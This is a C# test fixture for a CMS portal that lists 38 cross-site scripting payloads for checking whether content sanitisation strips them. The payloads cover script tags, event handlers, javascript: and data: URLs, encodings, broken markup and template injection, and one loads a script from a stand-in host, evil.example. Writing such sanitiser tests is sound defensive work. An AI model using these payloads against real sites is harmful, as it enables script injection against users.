namespace Portal.Web.Tests.Content;

/// <summary>
/// Script injection attempts of the kinds seen against CMS fields: tags, event handlers, URL schemes, encodings,
/// broken markup, template syntax. Each carries "xss" so a test can find what survived.
/// </summary>
public static class XssPayloads
{
    public static readonly IReadOnlyList<string> All =
    [
        "<script>alert('xss1')</script>",
        "<SCRIPT SRC=//evil.example/xss2.js></SCRIPT>",
        "<img src=x onerror=alert('xss3')>",
        "<img src=\"x\" onerror=\"alert('xss4')\">",
        "<svg onload=alert('xss5')>",
        "<svg><script>alert('xss6')</script></svg>",
        "<body onload=alert('xss7')>",
        "<iframe src=\"javascript:alert('xss8')\"></iframe>",
        "<iframe srcdoc=\"<script>alert('xss9')</script>\"></iframe>",
        "<a href=\"javascript:alert('xss10')\">点我</a>",
        "<a href=\"JaVaScRiPt:alert('xss11')\">点我</a>",
        "<a href=\"&#106;avascript:alert('xss12')\">点我</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzMTMnKTwvc2NyaXB0Pg==\">xss13</a>",
        "<a href=\"vbscript:msgbox('xss14')\">xss14</a>",
        "[点我](javascript:alert('xss15'))",
        "![图](javascript:alert('xss16'))",
        "<div style=\"background:url(javascript:alert('xss17'))\">xss17</div>",
        "<div style=\"width: expression(alert('xss18'))\">xss18</div>",
        "<object data=\"javascript:alert('xss19')\"></object>",
        "<embed src=\"javascript:alert('xss20')\">",
        "<form action=\"javascript:alert('xss21')\"><button>xss21</button></form>",
        "<button formaction=\"javascript:alert('xss22')\">xss22</button>",
        "<input autofocus onfocus=alert('xss23')>",
        "<details open ontoggle=alert('xss24')>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss25')>",
        "\"><script>alert('xss26')</script>",
        "'><img src=x onerror=alert('xss27')>",
        "</title><script>alert('xss28')</script>",
        "</textarea><script>alert('xss29')</script>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss30')\">",
        "<base href=\"javascript:alert('xss31')//\">",
        "<link rel=stylesheet href=\"javascript:alert('xss32')\">",
        "<style>@import 'javascript:alert(\"xss33\")';</style>",
        "<video><source onerror=\"alert('xss34')\"></video>",
        "<marquee onstart=alert('xss35')>xss35</marquee>",
        "{{constructor.constructor('alert(\"xss36\")')()}}",
        "<scr<script>ipt>alert('xss37')</scr</script>ipt>",
        "<img src=x:alert(alt) onerror=eval(src) alt='xss38'>",
    ];
}
